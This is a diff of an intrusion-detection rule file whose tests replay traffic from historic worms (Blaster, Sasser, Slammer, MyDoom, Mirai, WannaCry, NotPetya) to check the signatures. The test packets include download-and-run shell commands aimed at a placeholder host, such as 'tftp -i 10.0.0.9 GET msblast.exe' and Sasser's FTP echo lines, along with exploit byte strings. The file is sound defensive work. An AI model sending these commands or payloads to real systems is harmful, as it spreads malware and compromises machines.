@@ -234,227 +234,214 @@ signature wannacry_lookup {
   class    worm
   ref      cert "TA17-132A"
   when     udp.dst_port == 53
-       and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 12
+           and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 12
         or tcp.dst_port == 53
-       and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 14
+           and payload contains "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0" nocase at 14
   then     log
 }
 
 // Tests ---------------------------------------------------------------------------------------------------------------
 
 test "a bind to RemoteActivation" {
-  packet {
-    ipv4 tcp { dst_port 135  flags PSH | ACK }
-    payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57 00 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00"
-  }
+  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57 00 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00" }
   expect dcom_activation_bind, verdict accept
 }
 test "not a bind to RemoteActivation: the endpoint mapper, and the answer" {
-  packet {
-    ipv4 tcp { dst_port 135  flags PSH | ACK }
-    payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 08 83 af e1 1f 5d c9 11 91 a4 08 00 2b 14 a0 fa 03 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00"
-  }
-  packet {
-    ipv4 tcp { dst_port 135  flags PSH | ACK }
-    payload hex"05 00 00 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57"
-  }
-  packet {
-    ipv4 tcp { src_port 135  dst_port 50000  flags PSH | ACK }
-    payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57"
-  }
+  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 08 83 af e1 1f 5d c9 11 91 a4 08 00 2b 14 a0 fa 03 00 00 00 04 5d 88 8a eb 1c c9 11 9f e8 08 00 2b 10 48 60 02 00 00 00" }
+  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57" }
+  packet { ipv4  tcp { src_port 135  dst_port 50000  flags PSH | ACK }  payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57" }
   expect none
 }
 test "Blaster's exploit" {
-  packet {
-    ipv4 tcp { dst_port 135  flags PSH | ACK }
-    payload hex"05 00 00 03 10 00 00 00 a8 06 00 00 e5 00 00 00 90 06 00 00 01 00 04 00 5c 00 5c 00 46 00 58 00 4e 00 42 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 2e 00 64 00 6f 00 63 00 00 00"
-  }
+  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 a8 06 00 00 e5 00 00 00 90 06 00 00 01 00 04 00 5c 00 5c 00 46 00 58 00 4e 00 42 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 31 00 2e 00 64 00 6f 00 63 00 00 00" }
   expect blaster_exploit, verdict drop
 }
 test "not Blaster's exploit: another file on a share, and the path in a download" {
-  packet {
-    ipv4 tcp { dst_port 135  flags PSH | ACK }
-    payload hex"05 00 00 03 10 00 00 00 5c 00 5c 00 61 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 2e 00 64 00 6f 00 63 00"
-  }
-  packet { ipv4 tcp { src_port 80  dst_port 50000  flags PSH | ACK } payload blaster_path }
+  packet { ipv4  tcp { dst_port 135  flags PSH | ACK }  payload hex"05 00 00 03 10 00 00 00 5c 00 5c 00 61 00 5c 00 43 00 24 00 5c 00 31 00 32 00 33 00 34 00 35 00 36 00 2e 00 64 00 6f 00 63 00" }
+  packet { ipv4  tcp { src_port 80  dst_port 50000  flags PSH | ACK }  payload blaster_path }
   expect none
 }
 test "Blaster's command" {
-  packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "tftp -i 10.0.0.9 GET msblast.exe\n" }
+  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "tftp -i 10.0.0.9 GET msblast.exe\n" }
   expect blaster_shell, verdict drop
 }
 test "not Blaster's command: another program, another way, and talk about it" {
-  packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "del msblast.exe\n" }
-  packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "tftp -i 10.0.0.9 GET firmware.bin\n" }
-  packet { ipv4 tcp { dst_port 80  flags PSH | ACK } payload "POST /forum HTTP/1.1\r\n\r\ntftp -i 10.0.0.9 GET msblast.exe" }
+  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "del msblast.exe\n" }
+  packet { ipv4  tcp { dst_port 4444  flags PSH | ACK }  payload "tftp -i 10.0.0.9 GET firmware.bin\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80  flags PSH | ACK }
+    payload "POST /forum HTTP/1.1\r\n\r\ntftp -i 10.0.0.9 GET msblast.exe"
+  }
   expect none
 }
 test "Blaster is fetched" {
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01msblast.exe\0octet\0" }
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01MSBLAST.EXE\0octet\0" }
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01teekids.exe\0octet\0" }
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01penis32.exe\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01msblast.exe\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01MSBLAST.EXE\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01teekids.exe\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01penis32.exe\0octet\0" }
   expect blaster_download * 4, verdict drop
 }
 test "not Blaster's download: other names, and a write" {
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01pxelinux.0\0octet\0" }
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01msblast.exe.txt\0octet\0" }
-  packet { ipv4 udp { dst_port 69 } payload "\0\x02msblast.exe\0octet\0" }
-  packet { ipv4 udp { dst_port 7069 } payload "\0\x01msblast.exe\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01pxelinux.0\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01msblast.exe.txt\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x02msblast.exe\0octet\0" }
+  packet { ipv4  udp { dst_port 7069 }  payload "\0\x01msblast.exe\0octet\0" }
   expect none
 }
 test "Nachi's ping" {
-  packet {
-    ipv4 icmp { type 8 }
-    payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
-  }
+  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
   expect nachi_ping, verdict drop
 }
 test "not Nachi's ping: the answer, another length, Windows' alphabet" {
-  packet {
-    ipv4 icmp { type 0 }
-    payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
-  }
-  packet { ipv4 icmp { type 8 } payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
-  packet { ipv4 icmp { type 8 } payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" }
-  packet { ipv4 icmp { type 8 } payload "abcdefghijklmnopqrstuvwabcdefghi" }
+  packet { ipv4  icmp { type 0 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
+  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
+  packet { ipv4  icmp { type 8 }  payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" }
+  packet { ipv4  icmp { type 8 }  payload "abcdefghijklmnopqrstuvwabcdefghi" }
   expect none
 }
 
 test "MyDoom's mail" {
-  packet {
-    ipv4 tcp { dst_port 25  flags PSH | ACK }
-    payload "The message contains Unicode characters and has been sent as a binary attachment.\r\n\r\n--b\r\nContent-Disposition: attachment;\r\n filename=\"body.zip\"\r\n"
-  }
-  packet {
-    ipv6 tcp { dst_port 25  flags PSH | ACK }
-    payload "The message cannot be represented in 7-bit ASCII encoding and has been sent as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"doc.scr\"\r\n"
-  }
-  packet {
-    ipv4 tcp { dst_port 587  flags PSH | ACK }
-    payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n"
-  }
+  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "The message contains Unicode characters and has been sent as a binary attachment.\r\n\r\n--b\r\nContent-Disposition: attachment;\r\n filename=\"body.zip\"\r\n" }
+  packet { ipv6  tcp { dst_port 25  flags PSH | ACK }  payload "The message cannot be represented in 7-bit ASCII encoding and has been sent as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"doc.scr\"\r\n" }
+  packet { ipv4  tcp { dst_port 587  flags PSH | ACK }  payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n" }
   expect mydoom_mail * 3, verdict accept
 }
 test "not MyDoom's mail: a warning that quotes it, an honest attachment, and a page" {
-  packet {
-    ipv4 tcp { dst_port 80  flags PSH | ACK }
-    payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n"
-  }
-  packet {
-    ipv4 tcp { dst_port 25  flags PSH | ACK }
-    payload "Beware of mail that says: The message contains Unicode characters and has been sent as a binary attachment.\r\n"
-  }
-  packet {
-    ipv4 tcp { dst_port 25  flags PSH | ACK }
-    payload "The minutes, as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"minutes.pdf\"\r\n"
-  }
+  packet { ipv4  tcp { dst_port 80  flags PSH | ACK }  payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n" }
+  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "Beware of mail that says: The message contains Unicode characters and has been sent as a binary attachment.\r\n" }
+  packet { ipv4  tcp { dst_port 25  flags PSH | ACK }  payload "The minutes, as a binary attachment.\r\n--b\r\nContent-Disposition: attachment; filename=\"minutes.pdf\"\r\n" }
   expect none
 }
 test "a program for MyDoom's backdoor" {
-  packet { ipv4 tcp { dst_port 3127  flags PSH | ACK } payload hex"85 13 3c 9e a2 4d 5a 90 00" }
-  packet { ipv6 tcp { dst_port 3198  flags PSH | ACK } payload hex"85 13 3c 9e a2 4d 5a 90 00" }
+  packet { ipv4  tcp { dst_port 3127  flags PSH | ACK }  payload hex"85 13 3c 9e a2 4d 5a 90 00" }
+  packet { ipv6  tcp { dst_port 3198  flags PSH | ACK }  payload hex"85 13 3c 9e a2 4d 5a 90 00" }
   expect mydoom_backdoor * 2, verdict drop
 }
 test "not for MyDoom's backdoor: a proxy on its port, and the bytes elsewhere" {
-  packet { ipv4 tcp { dst_port 3128  flags PSH | ACK } payload "GET http://example.org/ HTTP/1.1\r\n\r\n" }
-  packet { ipv4 tcp { dst_port 3128  flags PSH | ACK } payload hex"00 85 13 3c 9e a2" }
-  packet { ipv4 tcp { dst_port 3199  flags PSH | ACK } payload hex"85 13 3c 9e a2" }
+  packet { ipv4  tcp { dst_port 3128  flags PSH | ACK }  payload "GET http://example.org/ HTTP/1.1\r\n\r\n" }
+  packet { ipv4  tcp { dst_port 3128  flags PSH | ACK }  payload hex"00 85 13 3c 9e a2" }
+  packet { ipv4  tcp { dst_port 3199  flags PSH | ACK }  payload hex"85 13 3c 9e a2" }
   expect none
 }
 
 test "Slammer" {
-  packet {
-    ipv4 udp { dst_port 1434 }
-    payload hex"04 01010101010101010101010101010101 01010101010101010101010101010101 01010101010101010101010101010101 dcc9b042eb0e01010101010101 70ae420170ae42 9090909090909090 68dcc9b042 51682e646c6c68656c3332686b65726e51686f756e746869636b43684765745466b96c6c"
-  }
+  packet { ipv4  udp { dst_port 1434 }  payload hex"04 01010101010101010101010101010101 01010101010101010101010101010101 01010101010101010101010101010101 dcc9b042eb0e01010101010101 70ae420170ae42 9090909090909090 68dcc9b042 51682e646c6c68656c3332686b65726e51686f756e746869636b43684765745466b96c6c" }
   expect slammer, sql_resolution_overflow, verdict drop
 }
 test "not Slammer: another service, another request" {
-  packet { ipv4 udp { dst_port 1433 } payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf" }
-  packet { ipv4 udp { dst_port 1434 } payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf" }
+  packet {
+    ipv4
+    udp { dst_port 1433 }
+    payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf"
+  }
+  packet {
+    ipv4
+    udp { dst_port 1434 }
+    payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf"
+  }
   expect none
 }
 test "not Slammer, but the same hole" {
-  packet { ipv4 udp { dst_port 1434 } payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0" }
+  packet { ipv4  udp { dst_port 1434 }  payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0" }
   expect sql_resolution_overflow, verdict drop
 }
 test "not the hole: the longest name, a broadcast, and a long datagram for another service" {
-  packet { ipv4 udp { dst_port 1434 } payload "\x04ABCDEFGHIJKLMNOPQRSTUVWXYZ012345\0" }
-  packet { ipv4 udp { dst_port 1434 } payload "\x02" }
-  packet { ipv4 udp { dst_port 1434 } payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
-  packet { ipv4 udp { dst_port 1433 } payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
+  packet { ipv4  udp { dst_port 1434 }  payload "\x04ABCDEFGHIJKLMNOPQRSTUVWXYZ012345\0" }
+  packet { ipv4  udp { dst_port 1434 }  payload "\x02" }
+  packet { ipv4  udp { dst_port 1434 }  payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
+  packet { ipv4  udp { dst_port 1433 }  payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }
   expect none
 }
 
 test "Sasser's command" {
-  packet { ipv4 tcp { dst_port 9996  flags PSH | ACK } payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n" }
+  packet {
+    ipv4
+    tcp { dst_port 9996  flags PSH | ACK }
+    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n"
+  }
   expect sasser_shell, verdict drop
 }
 test "not Sasser's command: another file, another port" {
-  packet { ipv4 tcp { dst_port 9996  flags PSH | ACK } payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get setup.exe>>cmd.ftp\n" }
-  packet { ipv4 tcp { dst_port 9996  flags PSH | ACK } payload "status of 74354_up.exe\n" }
-  packet { ipv4 tcp { dst_port 25  flags PSH | ACK } payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n" }
+  packet {
+    ipv4
+    tcp { dst_port 9996  flags PSH | ACK }
+    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get setup.exe>>cmd.ftp\n"
+  }
+  packet { ipv4  tcp { dst_port 9996  flags PSH | ACK }  payload "status of 74354_up.exe\n" }
+  packet {
+    ipv4
+    tcp { dst_port 25  flags PSH | ACK }
+    payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n"
+  }
   expect none
 }
 test "Sasser is fetched" {
-  packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "RETR 74354_up.exe\r\n" }
+  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "RETR 74354_up.exe\r\n" }
   expect sasser_download, verdict drop
 }
 test "not Sasser's download: another file, another command, another server" {
-  packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "DELE 74354_up.exe\r\n" }
-  packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "RETR readme.txt\r\n" }
-  packet { ipv4 tcp { dst_port 21  flags PSH | ACK } payload "RETR 74354_up.exe\r\n" }
+  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "DELE 74354_up.exe\r\n" }
+  packet { ipv4  tcp { dst_port 5554  flags PSH | ACK }  payload "RETR readme.txt\r\n" }
+  packet { ipv4  tcp { dst_port 21  flags PSH | ACK }  payload "RETR 74354_up.exe\r\n" }
   expect none
 }
 
 test "Nimda is fetched" {
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01Admin.dll\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01Admin.dll\0octet\0" }
   expect nimda_download, verdict drop
 }
 test "not Nimda's download: another library" {
-  packet { ipv4 udp { dst_port 69 } payload "\0\x01sysadmin.dll\0octet\0" }
+  packet { ipv4  udp { dst_port 69 }  payload "\0\x01sysadmin.dll\0octet\0" }
   expect none
 }
 test "Witty" {
-  packet { ipv4 udp { src_port 4000  dst_port 31337 } payload "\x05\0\0\0\0\0\0\x12\x02 (^.^)      insert witty message here      (^.^)" }
+  packet {
+    ipv4
+    udp { src_port 4000  dst_port 31337 }
+    payload "\x05\0\0\0\0\0\0\x12\x02 (^.^)      insert witty message here      (^.^)"
+  }
   expect witty, verdict drop
 }
 test "not Witty: ICQ, and talk about Witty" {
-  packet { ipv4 udp { src_port 4000  dst_port 31337 } payload "\x05\0\0\0\0\0\0\x12\x02" }
-  packet { ipv4 udp { src_port 4001  dst_port 31337 } payload "insert witty message here" }
+  packet { ipv4  udp { src_port 4000  dst_port 31337 }  payload "\x05\0\0\0\0\0\0\x12\x02" }
+  packet { ipv4  udp { src_port 4001  dst_port 31337 }  payload "insert witty message here" }
   expect none
 }
 test "Mirai tries a shell" {
-  packet { ipv4 tcp { dst_port 23  flags PSH | ACK } payload "/bin/busybox MIRAI\r\n" }
-  packet { ipv4 tcp { dst_port 2323  flags PSH | ACK } payload "/bin/busybox MIRAI\r\n" }
+  packet { ipv4  tcp { dst_port 23  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
+  packet { ipv4  tcp { dst_port 2323  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
   expect mirai_shell * 2, verdict drop
 }
 test "not Mirai: an applet that exists" {
-  packet { ipv4 tcp { dst_port 23  flags PSH | ACK } payload "/bin/busybox ls\r\n" }
-  packet { ipv4 tcp { src_port 23  dst_port 50000  flags PSH | ACK } payload "/bin/busybox MIRAI\r\n" }
+  packet { ipv4  tcp { dst_port 23  flags PSH | ACK }  payload "/bin/busybox ls\r\n" }
+  packet { ipv4  tcp { src_port 23  dst_port 50000  flags PSH | ACK }  payload "/bin/busybox MIRAI\r\n" }
   expect none
 }
 test "WannaCry asks for its kill switch, and gets through" {
   packet {
-    ipv4 udp { dst_port 53 }
+    ipv4
+    udp { dst_port 53 }
     payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
   }
   packet {
-    ipv6 tcp { dst_port 53  flags PSH | ACK }
+    ipv6
+    tcp { dst_port 53  flags PSH | ACK }
     payload "\0\x3f\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x29IUQERFSODP9IFJAPOSDFJHGOSURIJFAEWRWERGWEA\x03com\0\0\x01\0\x01"
   }
   expect wannacry_lookup * 2, verdict accept
 }
 test "not WannaCry: other names, and the answers" {
-  packet { ipv4 tcp { dst_port 53  flags PSH | ACK } payload "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
   packet {
-    ipv4 tcp { src_port 53  dst_port 50000  flags PSH | ACK }
-    payload "\0\x3f\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
+    ipv4
+    tcp { dst_port 53  flags PSH | ACK }
+    payload "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01"
   }
-  packet { ipv4 udp { dst_port 53 } payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
+  packet { ipv4  tcp { src_port 53  dst_port 50000  flags PSH | ACK }  payload "\0\x3f\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01" }
+  packet { ipv4  udp { dst_port 53 }  payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
   packet {
-    ipv4 udp { src_port 53  dst_port 50000 }
+    ipv4
+    udp { src_port 53  dst_port 50000 }
     payload "\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
   }
   expect none
@@ -499,15 +486,22 @@ signature notpetya_copy {
   class    worm
   ref      cert "TA17-181A"
   ref      mitre "T1021.002"
-  when     tcp.dst_port in { 139, 445 } and payload contains hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" nocase
+  when     tcp.dst_port in { 139, 445 }
+       and payload contains hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" nocase
   then     log, drop
 }
 test "perfc.dat" {
-  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" } }
+  packet {
+    ipv4
+    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" }
+  }
   expect notpetya_copy, verdict drop
 }
 test "near miss: perfh.dat, which is Windows' own, and another service" {
-  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 68 00 2e 00 64 00 61 00 74 00" } }
+  packet {
+    ipv4
+    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 68 00 2e 00 64 00 61 00 74 00" }
+  }
   packet { ipv4  tcp { dst_port 80  payload hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" } }
   expect none
 }
@@ -524,7 +518,10 @@ signature psexec_service {
   then     log
 }
 test "PSEXESVC" {
-  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" } }
+  packet {
+    ipv4
+    tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" }
+  }
   expect psexec_service, verdict accept
 }
 test "near miss: another pipe, and another service" {
